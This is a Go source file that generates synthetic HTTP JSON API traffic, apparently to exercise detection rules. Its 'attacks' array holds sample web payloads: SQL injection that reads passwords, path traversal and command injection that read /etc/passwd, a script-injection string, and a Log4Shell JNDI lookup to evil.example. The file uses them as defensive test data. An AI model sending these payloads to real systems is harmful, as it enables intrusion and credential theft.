package traffic

import (
	"bytes"
	"fmt"
)

// openAPI gives a connection its number of calls.
func (m *maker) openAPI(c *conn) { c.left = 1 + m.rnd.IntN(2*m.cfg.CallsPerConn) }

// openShort gives it one.
func (m *maker) openShort(c *conn) { c.left = 1 }

// playAPI makes one call of a JSON API.
func (m *maker) playAPI(c *conn) (ended bool) {
	call, head, body := m.request(c)
	m.send(c, 0, append(head, body...))
	var answer []byte
	call.Status, call.RespBytes, answer = m.response()
	m.send(c, 1, answer)
	m.segment(c, 0, ack, nil)
	m.flush(true)
	m.call(c, call)
	c.left--
	return c.left <= 0
}

// attacks are targets that rules look for.
var attacks = [...]string{"/api/v1/items?q=1'%20UNION%20SELECT%20name,password%20FROM%20users--%20",
	"/files?name=../../../../etc/passwd", "/api/v1/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
	"/api/v1/ping?host=127.0.0.1;cat%20/etc/passwd", "/api/v1/items?q=$%7Bjndi:ldap://evil.example/a%7D"}

// request makes a request: 65 of 100 are GET, 15 each POST and PUT, 5 DELETE.
func (m *maker) request(c *conn) (call Call, head, body []byte) {
	call.Target = fmt.Sprintf("/api/v1/items/%d?fields=name,price&page=%d", m.rnd.IntN(5000), m.rnd.IntN(40))
	if m.chance(m.cfg.Attacks) {
		m.sum.Attacks++
		call.Target = attacks[m.rnd.IntN(len(attacks))]
	}
	call.Method = "GET"
	if k := m.rnd.IntN(100); k >= 65 {
		call.Method = [...]string{"POST", "PUT", "DELETE"}[min((k-65)/15, 2)]
		if call.Method != "DELETE" {
			body = m.json(200 + m.rnd.IntN(1500))
		}
	}
	call.ReqBytes = len(body)
	head = fmt.Appendf(nil, "%s %s HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: shop-app/4.%d (Android 14)\r\nAccept: application/json\r\nAccept-Encoding: gzip\r\n"+
		"Authorization: Bearer tok-%08x\r\nX-Request-Id: %016x\r\n", call.Method, call.Target, m.rnd.IntN(9), c.client, m.rnd.Uint64())
	if body != nil {
		head = fmt.Appendf(head, "Content-Type: application/json\r\nContent-Length: %d\r\n", len(body))
	}
	return call, append(head, "\r\n"...), body
}

// response makes an answer with a body of 0.2 to 8 KiB: a third is gzip, a
// tenth chunked.
func (m *maker) response() (status, size int, answer []byte) {
	body := m.json(200 + m.rnd.IntN(8000))
	status, reason := 200, "OK"
	if m.chance(30) {
		status, reason = 404, "Not Found"
	}
	head := fmt.Appendf(nil, "HTTP/1.1 %d %s\r\nServer: nginx\r\nContent-Type: application/json\r\nCache-Control: no-store\r\n", status, reason)
	if m.rnd.IntN(3) == 0 {
		var z bytes.Buffer
		m.zip.Reset(&z)
		_, werr := m.zip.Write(body)
		if cerr := m.zip.Close(); m.err == nil && werr != nil {
			m.err = werr
		} else if m.err == nil {
			m.err = cerr
		}
		body = z.Bytes()
		head = append(head, "Content-Encoding: gzip\r\n"...)
	}
	if m.rnd.IntN(10) == 0 {
		return status, len(body), fmt.Appendf(head, "Transfer-Encoding: chunked\r\n\r\n%x\r\n%s\r\n0\r\n\r\n", len(body), body)
	}
	return status, len(body), fmt.Appendf(head, "Content-Length: %d\r\n\r\n%s", len(body), body)
}

// json makes about size bytes of ordinary JSON.
func (m *maker) json(size int) []byte {
	b := []byte(`{"items":[`)
	for len(b) < size {
		b = fmt.Appendf(b, `{"id":%d,"name":"article %x","price":%d.%02d,"stock":%d,"tags":["new","sale"],"note":"ships in %d days"},`,
			m.rnd.IntN(1e6), m.rnd.Uint32(), m.rnd.IntN(900), m.rnd.IntN(100), m.rnd.IntN(50), m.rnd.IntN(9))
	}
	return append(b[:len(b)-1], `],"next":null}`...)
}
